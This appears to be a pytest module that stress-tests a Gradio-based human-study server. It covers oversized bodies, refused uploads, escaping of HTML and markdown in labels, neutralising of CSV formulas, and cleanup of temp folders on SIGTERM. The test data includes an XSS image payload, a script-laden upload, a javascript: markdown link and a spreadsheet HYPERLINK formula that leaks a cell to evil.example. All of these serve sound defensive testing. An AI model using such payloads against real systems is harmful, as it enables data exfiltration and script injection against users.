"""The study server under abuse, as a real ``fcr-human-study serve`` process: oversized bodies,
uploads without (or with) a token, HTML and formulas in labels, and its temp folder on exit.

One server serves the module (its start is most of the time: ~10 s on an idle 2-core machine);
the last test stops it with SIGTERM, as a service manager would.
"""

from __future__ import annotations

import os
import re
import signal
import subprocess
import sys
import time
from pathlib import Path

import httpx
import pytest
from fcr_human_study.app import code_block, markdown_text, progress_markdown
from fcr_human_study.build import add_raters, build_study
from fcr_human_study.guard import MAX_BODY_BYTES
from fcr_human_study.server_temp import PREFIX

from ..browser import free_port
from .conftest import make_results_store, rater_client
from .test_app import TOKEN

pytestmark = pytest.mark.filterwarnings("ignore:.*(no_silent_downcasting|copy keyword).*")

HTML_LABEL = '<img src=x onerror="alert(1)"><b>bold</b>'
FORMULA_LABEL = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
MARKER = b"FCR-UPLOAD-MARKER-7f3a"


def _peak_rss_kib(pid: int) -> int:
    """The process's peak resident memory (VmHWM), KiB."""
    text = Path(f"/proc/{pid}/status").read_text()
    return int(re.search(r"^VmHWM:\s+(\d+) kB", text, re.M).group(1))


def _rss_kib(pid: int) -> int:
    text = Path(f"/proc/{pid}/status").read_text()
    return int(re.search(r"^VmRSS:\s+(\d+) kB", text, re.M).group(1))


@pytest.fixture(scope="module")
def server(tmp_path_factory):
    root = tmp_path_factory.mktemp("limits")
    results = make_results_store(root)
    study = root / "results" / "human-study.duckdb"
    report = build_study(results, study, n_pairs=12, attention_share=0.0, pairs_per_rater=6)
    (_, html_token), = add_raters(study, 1, label=HTML_LABEL)
    (_, formula_token), = add_raters(study, 1, label=FORMULA_LABEL)
    tmp = root / "tmp"  # the server's TMPDIR: its private folder goes here
    tmp.mkdir()
    dead = subprocess.run([sys.executable, "-c", "import os; print(os.getpid())"], capture_output=True,
                          text=True, check=True)
    stale = tmp / f"{PREFIX}{int(dead.stdout)}-left"  # the folder of a server that was killed
    (stale / "gradio").mkdir(parents=True)
    (stale / "gradio" / "votes.csv").write_text("old")
    port = free_port()
    proc = subprocess.Popen(
        [sys.executable, "-m", "fcr_human_study.cli", "serve", "--study", str(study), "--host", "127.0.0.1",
         "--port", str(port)],
        stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True,
        env={**os.environ, "TMPDIR": str(tmp), "GRADIO_ANALYTICS_ENABLED": "False"})
    url = f"http://127.0.0.1:{port}/"
    deadline = time.monotonic() + 180
    while True:
        assert proc.poll() is None, proc.stdout.read()
        try:
            if httpx.get(url + "config", timeout=2).status_code == 200:
                break
        except httpx.HTTPError:
            pass
        assert time.monotonic() < deadline, "the server did not come up"
        time.sleep(0.3)
    yield {"proc": proc, "url": url, "tmp": tmp, "stale": stale, "admin": report.admin_secret,
           "tokens": {"html": html_token, "formula": formula_token}}
    if proc.poll() is None:
        proc.kill()
        proc.wait(timeout=30)


def _chunks(total: int, size: int = 1 << 20):
    block = b"x" * size
    for _ in range(total // size):
        yield block


def test_oversized_bodies_are_refused_on_every_route_without_growing_the_server(server):
    pid, url = server["proc"].pid, server["url"]
    routes = ["gradio_api/queue/join", "gradio_api/call/start", "gradio_api/run/vote_left",
              "gradio_api/api/admin_progress", "gradio_api/component_server", "gradio_api/cancel", "", "login"]
    before = _peak_rss_kib(pid)
    with httpx.Client(base_url=url, timeout=60) as h:
        for route in routes:
            # 64 MiB declared up front: refused before a byte of it is read.
            r = h.post(route, content=_chunks(64 << 20), headers={"content-type": "application/json",
                                                                  "content-length": str(64 << 20)})
            assert r.status_code == 413, (route, r.status_code, r.text[:200])
            assert "too large" in r.text
        # 64 MiB chunked (no length): refused once the limit is passed.
        r = h.post("gradio_api/queue/join", content=_chunks(64 << 20), headers={"content-type": "application/json"})
        assert r.status_code == 413, r.text[:200]
        # Just over the limit, declared: refused; a normal call still works.
        r = h.post("gradio_api/call/start", json={"data": ["x" * MAX_BODY_BYTES]})
        assert r.status_code == 413
    grown_mib = (_peak_rss_kib(pid) - before) / 1024
    assert grown_mib < 16, f"the server's peak memory grew by {grown_mib:.0f} MiB"
    out = rater_client(url).predict(server["tokens"]["html"], api_name="/start")
    assert out[TOKEN].startswith("p"), out


def test_uploads_are_refused_and_nothing_is_kept_or_served(server):
    url, tmp = server["url"], server["tmp"]
    files = {"files": ("x.html", MARKER + b"<script>alert(1)</script>", "text/html")}
    with httpx.Client(base_url=url, timeout=30) as h:
        for route in ["gradio_api/upload", "gradio_api/upload/", "gradio_api/upload?upload_id=abc",
                      "gradio_api/process_recording"]:
            r = h.post(route, files=files)
            assert r.status_code == 403, (route, r.status_code, r.text[:200])
            assert "takes no uploads" in r.text
        # With a rater's session (a valid invitation token) too: the app has no upload component.
        c = rater_client(url)
        c.predict(server["tokens"]["html"], api_name="/start")
        r = h.post("gradio_api/upload", files=files, headers={"session_hash": c.session_hash})
        assert r.status_code == 403
    kept = [p for p in tmp.rglob("*") if p.is_file() and MARKER in p.read_bytes()]
    assert kept == []
    with httpx.Client(base_url=url, timeout=30) as h:
        for p in tmp.rglob("*"):
            if p.is_file():
                assert MARKER not in h.get(f"gradio_api/file={p}").content


def test_admin_view_escapes_labels_and_ids(server):
    c = rater_client(server["url"])
    progress = c.predict(server["admin"], api_name="/admin_progress")
    assert "<img" not in progress and "<b>" not in progress, progress
    assert markdown_text(HTML_LABEL + "-1") in progress  # the label, as text
    # Variation ids and rater ids are escaped as well (a study built from any store).
    md = progress_markdown({
        "totals": {"votes": 0, "raters_active": 0, "raters_invited": 1, "pairs_rated": 0, "pairs": 1},
        "variation_pairs": [{"variation_1": "<script>x</script>", "variation_2": "a|b", "pairs": 1, "votes": 0}],
        "raters": [{"label": "[x](javascript:alert(1))", "rater_id": "<i>r</i>", "votes": 0,
                    "attention_correct": 0, "attention_answered": 0, "last_vote": None}]})
    assert "<script>" not in md and "<i>" not in md and "](javascript" not in md
    assert "&lt;script&gt;" in md and "a\\|b" in md
    cells = [len(re.findall(r"(?<!\\)\|", line)) for line in md.splitlines() if line.startswith("| ")]
    assert cells == [4, 4, 6, 6], md  # two headers and their rows: no cell split by a "|" in a name
    assert code_block("x\n```\n<b>") == "````\nx\n```\n<b>\n````"


def test_csv_exports_neutralise_formula_labels(server, tmp_path):
    c = rater_client(server["url"])
    out = c.predict(server["tokens"]["formula"], api_name="/start")
    c.predict(out[TOKEN], api_name="/vote_left")
    exported = c.predict(server["admin"], api_name="/admin_export")
    with httpx.Client(timeout=30) as h:
        text = h.get(exported["url"]).text
    import csv
    import io

    rows = list(csv.DictReader(io.StringIO(text)))
    labels = [r["rater_label"] for r in rows]
    assert "'" + FORMULA_LABEL + "-2" in labels, labels
    assert not any(v.startswith(("=", "+", "-", "@")) for r in rows for v in r.values())


def test_sigterm_removes_the_servers_temp_folders(server):
    proc, tmp = server["proc"], server["tmp"]
    assert not server["stale"].exists(), "the folder of a killed server was not removed at start"
    ours = [p for p in tmp.iterdir() if p.name.startswith(PREFIX)]
    assert len(ours) == 1 and str(proc.pid) in ours[0].name, ours
    # an admin export put a file in it
    rater_client(server["url"]).predict(server["admin"], api_name="/admin_export")
    assert any(p.suffix == ".csv" for p in ours[0].rglob("*"))
    proc.send_signal(signal.SIGTERM)
    proc.wait(timeout=60)
    assert not ours[0].exists(), sorted(str(p) for p in ours[0].rglob("*"))
    assert not any(p.name.startswith(PREFIX) for p in tmp.iterdir())
